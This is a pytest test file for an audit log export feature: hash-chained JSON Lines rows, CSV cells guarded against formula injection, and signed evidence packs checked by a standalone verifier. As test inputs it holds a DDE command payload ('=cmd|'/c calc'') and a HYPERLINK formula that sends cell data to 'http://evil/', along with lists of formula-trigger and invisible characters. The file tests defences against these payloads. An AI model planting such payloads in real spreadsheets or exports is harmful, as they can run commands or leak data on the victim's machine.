"""What auditors take away: JSON Lines, CSV without formulas, and a pack that Python alone can verify."""

import base64
import csv
import io
import json
import re
import subprocess
import sys
import zipfile
from collections.abc import Callable
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from recorded import AT, audit, call, intent, outcome, serve, spoil_decision, writer

from telemetry.audit.exports import cell, comma_separated, json_lines
from telemetry.audit.keys import key_id
from telemetry.audit.pack import EvidencePack
from telemetry.audit.selection import Selection
from telemetry.audit.verifier import ZEROS, encoded, row_hash
from telemetry.journal import Journal
from telemetry.models import RequestLog

pytestmark = pytest.mark.django_db(transaction=True)
VERIFIER = Path(sys.modules["telemetry.audit.verifier"].__file__ or "")
ROWS = 40


@pytest.fixture
def recorded(tmp_path: Path) -> Path:
    """Forty calls, every fifth of Charlie, one a minute, signed seven at a time."""
    folder = tmp_path / "journal"
    journal, moving = Journal(folder), writer(folder)
    for n in range(1, ROWS + 1):
        tool = "charlie" if n % 5 == 0 else "bob"
        journal.intent(intent(call(n), tool_id=tool, started_at=AT + n * 60))
        odd = {"request_id": f"=cmd|'/c calc'!A{n}", "model": "modèle \u2028 \U0001f600", "trace_id": "a\nb"}
        journal.outcome(outcome(call(n), tool_id=tool, started_at=AT + n * 60, **odd))
        if n % 7 == 0:
            moving.run_once()
    journal.close()
    moving.run_once()
    return folder


def pack(folder: Path, selection: Selection, name: str = "pack.zip") -> Path:
    path = folder.parent / name
    path.write_bytes(b"".join(EvidencePack(selection, audit(folder).public_keys()).stream()))
    return path


def checked(path: Path, *more: str) -> tuple[int, str]:
    """As an auditor runs it: a Python of its own, nothing of the product importable."""
    script = path.parent / "verifier.py"
    script.write_bytes(VERIFIER.read_bytes())
    run = subprocess.run(
        [sys.executable, "-I", "-S", str(script), str(path), *more], capture_output=True, text=True
    )
    return run.returncode, run.stdout + run.stderr


def public_key(folder: Path) -> str:
    (path,) = (audit(folder).folder / "believed").glob("*.pub")
    return str(path)


def test_each_line_is_a_row_that_the_standard_library_hashes_alike(recorded: Path) -> None:
    previous = ZEROS
    for number, line in enumerate(b"".join(json_lines(Selection())).splitlines(), 1):
        row = json.loads(line)
        claimed = row.pop("hash")
        previous = row_hash(previous, encoded(row))
        assert (row["sequence"], previous) == (number, claimed)
    assert number == ROWS


def test_a_selection_is_what_was_asked_for(recorded: Path) -> None:
    def sequences(selection: Selection) -> list[int]:
        return [json.loads(line)["sequence"] for line in b"".join(json_lines(selection)).splitlines()]

    begun = datetime.fromtimestamp(AT, UTC)
    assert sequences(Selection(tool_id="charlie")) == [5, 10, 15, 20, 25, 30, 35, 40]
    assert sequences(Selection(call_id=call(7))) == [7]
    period = Selection(since=begun + timedelta(minutes=10), until=begun + timedelta(minutes=13))
    assert sequences(period) == [10, 11, 12]
    assert sequences(Selection(since=begun + timedelta(days=9))) == []


def test_no_cell_of_a_table_begins_as_a_formula(recorded: Path) -> None:
    text = b"".join(comma_separated(Selection())).decode()
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert len(rows) == ROWS + 1
    assert not [value for row in rows for value in row if value.startswith(("=", "+", "-", "@", "\t", "\r"))]
    at = rows[0].index("requestId")
    assert rows[1][at] == "'=cmd|'/c calc'!A1"


def test_every_cell_of_a_table_is_quoted(recorded: Path) -> None:
    first, second = b"".join(comma_separated(Selection())).decode().split("\r\n")[:2]
    assert (first[0], first[-1]) == ('"', '"')
    assert (second[0], second[-1]) == ('"', '"')
    assert second.count('","') >= first.count('","') == len(next(csv.reader([first]))) - 1


STARTS = ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠", "﹦", "﹢", "﹣", "﹫"]
UNSEEN = [
    "",
    " ",
    "\xa0",
    "\u3000",
    "\u200b",
    "\ufeff",
    "\u2060",
    "\u200e",
    "\xad",
    "\0",
    "\xa0\u200b \ufeff",
]


@pytest.mark.parametrize("unseen", UNSEEN, ids=ascii)
@pytest.mark.parametrize("start", STARTS, ids=ascii)
def test_an_apostrophe_makes_a_text_of_it(unseen: str, start: str) -> None:
    assert cell(f"{unseen}{start}1+1") == f"'{unseen}{start}1+1"


@pytest.mark.parametrize("text", ["plain", "", " a=1", "\xa0", "\u200bmail@example.org", "1-2"])
def test_what_is_no_formula_stays_as_it_is(text: str) -> None:
    assert cell(text) == text


@pytest.mark.parametrize("blanks", [" ", ";", "\n;", "'", " \t"], ids=ascii)
def test_a_long_run_of_blanks_is_looked_through_once(blanks: str) -> None:
    text = "x" + blanks * 1_000_000 + "x"
    assert cell(text) == text
    assert len(cell(text + blanks * 1_000_000 + "=")) >= len(text)


@pytest.mark.parametrize(
    ("text", "guarded"),
    [
        ('x;=HYPERLINK("http://evil/?"&A1)', 'x;\'=HYPERLINK("http://evil/?"&A1)'),
        ("a\t=1+1", "a\t'=1+1"),
        ("a\n@b", "a\n'@b"),
        ("a\r\n-1", "a\r'\n'-1"),
        ("a|+1", "a|'+1"),
        ('a;"=1"', 'a;\'"=1"'),
        ("a; \u200b＝1", "a;' \u200b＝1"),
        (";=1", ";'=1"),
        ("a;;=1", "a;';'=1"),
        ("'=1", "''=1"),
        ("a;'=1", "a;''=1"),
        ("a;b=1", "a;b=1"),
        ("a,=1 b - c", "a,=1 b - c"),
    ],
    ids=ascii,
)
def test_a_formula_within_a_text_is_none_for_whoever_divides_it_there(text: str, guarded: str) -> None:
    assert cell(text) == guarded


def unguarded(cell: str) -> str:
    """As the guide tells how a text is found again."""
    from telemetry.audit.exports import BEFORE_A_SIGN, FORMULA

    text = cell[1:] if cell.startswith("'") and FORMULA.match(cell[1:]) else cell
    return BEFORE_A_SIGN.sub(lambda run: re.sub(r"([;|\t\r\n])'", r"\1", run[0]), text)


TEXTS = st.text(st.sampled_from("=+-@;|\t\r\n ,'\"\u200b＝a1"), max_size=12)


@given(st.lists(TEXTS, min_size=1, max_size=4))
@settings(max_examples=300)
def test_no_reader_finds_a_formula_and_each_text_is_found_again(texts: list[str]) -> None:
    assert [unguarded(cell(text)) for text in texts] == texts
    table = io.StringIO(newline="")
    csv.writer(table, quoting=csv.QUOTE_ALL).writerow([cell(text) for text in texts])
    for delimiter in ",;\t|":
        for row in csv.reader(io.StringIO(table.getvalue(), newline=""), delimiter=delimiter):
            for found in row:
                assert not found.strip(' \u200b"').startswith(("=", "+", "-", "@", "＝")), (delimiter, found)


@pytest.mark.parametrize(
    ("selection", "rows"),
    [
        (Selection(), ROWS),
        (
            Selection(
                since=datetime.fromtimestamp(AT + 10 * 60, UTC),
                until=datetime.fromtimestamp(AT + 20 * 60, UTC),
            ),
            10,
        ),
        (Selection(tool_id="charlie"), 8),
        (Selection(call_id=call(17)), 1),
        (Selection(tool_id="nobody"), 0),
    ],
    ids=["all", "period", "client", "call", "none"],
)
def test_an_auditor_verifies_a_pack_with_python_alone(
    recorded: Path, selection: Selection, rows: int
) -> None:
    code, told = checked(pack(recorded, selection), "--public-key", public_key(recorded))
    assert (code, told.startswith(f"{rows} row"), "no findings" in told) == (0, True, True), told
    assert ("A selection" in told) is bool(rows and not selection.whole)


def test_a_pack_about_one_client_shows_nothing_of_another(recorded: Path) -> None:
    with zipfile.ZipFile(pack(recorded, Selection(tool_id="charlie"))) as archive:
        content = b"".join(archive.read(name) for name in archive.namelist())
        lines = archive.read("rows.jsonl").splitlines()
    assert b'"bob"' not in content
    assert len(lines) > 8, "rows in between stand in by their hash"


def _edit(line: bytes) -> bytes:
    return line.replace(b'"status":200', b'"status":201')


def _rewrite(path: Path, name: str, change: Callable[[list[bytes]], list[bytes]]) -> Path:
    """A forger who also corrects the manifest."""
    import hashlib

    with zipfile.ZipFile(path) as archive:
        files = {each: archive.read(each) for each in archive.namelist()}
    files[name] = b"".join(change(files[name].splitlines(keepends=True)))
    manifest = json.loads(files["manifest.json"])
    manifest["files"][name] = hashlib.sha256(files[name]).hexdigest()
    manifest["rows"] = sum(b'"callId"' in line for line in files["rows.jsonl"].splitlines())
    files["manifest.json"] = json.dumps(manifest).encode()
    forged = path.with_name("forged.zip")
    with zipfile.ZipFile(forged, "w") as archive:
        for each, data in files.items():
            archive.writestr(each, data)
    return forged


@pytest.mark.parametrize(
    ("name", "change", "finding"),
    [
        (
            "rows.jsonl",
            lambda lines: [_edit(line) if n == 8 else line for n, line in enumerate(lines)],
            "changed",
        ),
        ("rows.jsonl", lambda lines: lines[:8] + lines[9:], "deleted"),
        ("rows.jsonl", lambda lines: [*lines[:8], lines[9], lines[8], *lines[10:]], "deleted"),
        ("rows.jsonl", lambda lines: lines[:-3], "cut off"),
        ("rows.jsonl", lambda lines: [*lines[:8], lines[7], *lines[8:]], "duplicate"),
        ("checkpoints.jsonl", lambda lines: lines[:2] + lines[3:], "checkpoint"),
        ("checkpoints.jsonl", lambda lines: lines[:-1], "unsigned|cut off"),
        (
            "checkpoints.jsonl",
            lambda lines: [line.replace(b'"rows":7', b'"rows":8') for line in lines],
            "checkpoint",
        ),
    ],
    ids=[
        "edit",
        "delete",
        "swap",
        "cut",
        "duplicate",
        "drop-checkpoint",
        "drop-last-checkpoint",
        "edit-checkpoint",
    ],
)
def test_a_forged_pack_is_found_out(
    recorded: Path, name: str, change: Callable[[list[bytes]], list[bytes]], finding: str
) -> None:
    forged = _rewrite(pack(recorded, Selection()), name, change)
    code, told = checked(forged, "--public-key", public_key(recorded))
    assert code == 1, told
    assert any(word in told for word in finding.split("|")), told


def test_a_pack_signed_by_somebody_else_is_not_believed(recorded: Path, tmp_path: Path) -> None:
    other = tmp_path / "other.pub"
    other.write_text(
        base64.b64encode(
            bytes.fromhex("d75a980182b10ab7d54bfed3c964073a0ee172f3daa62325af021a68f707511a")
        ).decode()
    )
    code, told = checked(pack(recorded, Selection()), "--public-key", str(other))
    assert (code, "not one of those believed" in told) == (1, True), told


def test_after_a_change_of_keys_both_are_named(recorded: Path, tmp_path: Path) -> None:
    """In as many arguments or lines as one likes. Either alone does not do: it signed a part."""
    first = Path(public_key(recorded)).read_text()
    audit(recorded).key.rename(tmp_path / "first.key")
    journal, moving = Journal(recorded), writer(recorded)
    serve(journal, ROWS + 1, ROWS + 2)
    moving.run_once()
    journal.close()
    (second,) = (
        path.read_text()
        for path in (audit(recorded).folder / "believed").glob("*.pub")
        if path.read_text() != first
    )
    for name, text in {"first": first, "second": second, "both": f"{first}\n{second}"}.items():
        (tmp_path / f"{name}.pub").write_text(text)
    path = pack(recorded, Selection())
    for named, code in ((("first", "second"), 0), (("second", "first"), 0), (("both",), 0), (("first",), 1)):
        arguments = [part for name in named for part in ("--public-key", str(tmp_path / f"{name}.pub"))]
        assert checked(path, *arguments)[0] == code, named


def test_a_file_that_holds_no_key_is_named(recorded: Path, tmp_path: Path) -> None:
    for text in ("", "no key", "AAAA"):
        (tmp_path / "no.pub").write_text(text)
        code, told = checked(pack(recorded, Selection()), "--public-key", str(tmp_path / "no.pub"))
        assert (code, "No public key can be read from" in told, "no.pub" in told) == (2, True, True), told


def test_what_is_no_pack_is_said_to_be_none(tmp_path: Path) -> None:
    (tmp_path / "x.zip").write_bytes(b"PK nothing")
    (tmp_path / "empty").mkdir()
    for path in (tmp_path / "x.zip", tmp_path / "empty", tmp_path / "missing.zip"):
        code, told = checked(path)
        assert (code, "no evidence pack" in told, "Traceback" in told) == (2, True, False), told


def test_the_pure_python_signatures_agree_with_the_library() -> None:
    import os

    from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

    from telemetry.audit.verifier import ed25519

    for length in (0, 1, 33, 500):
        key, message = Ed25519PrivateKey.generate(), os.urandom(length)
        public, signature = key.public_key().public_bytes_raw(), key.sign(message)
        assert ed25519(public, signature, message)
        assert not ed25519(public, signature, message + b"x")
        assert not ed25519(public, signature[:40] + bytes([signature[40] ^ 1]) + signature[41:], message)
        assert not ed25519(os.urandom(32), signature, message)
        assert not ed25519(public, signature[:63], message)
    assert len(key_id(public)) == 16


def test_exports_stream_and_keep_order_over_many_batches(recorded: Path) -> None:
    chunks = list(EvidencePack(Selection(), audit(recorded).public_keys()).stream())
    assert all(len(chunk) < 2**20 for chunk in chunks)
    assert RequestLog.objects.count() == ROWS


def test_a_row_that_is_none_of_ours_is_exported_as_it_is_and_found(recorded: Path) -> None:
    spoil_decision(9)
    assert b"not json" in b"".join(comma_separated(Selection()))
    assert b"".join(json_lines(Selection())).count(b"\n") == ROWS
    code, told = checked(pack(recorded, Selection()), "--public-key", public_key(recorded))
    assert code == 1
    assert "#9: the row is not the one that was recorded" in told
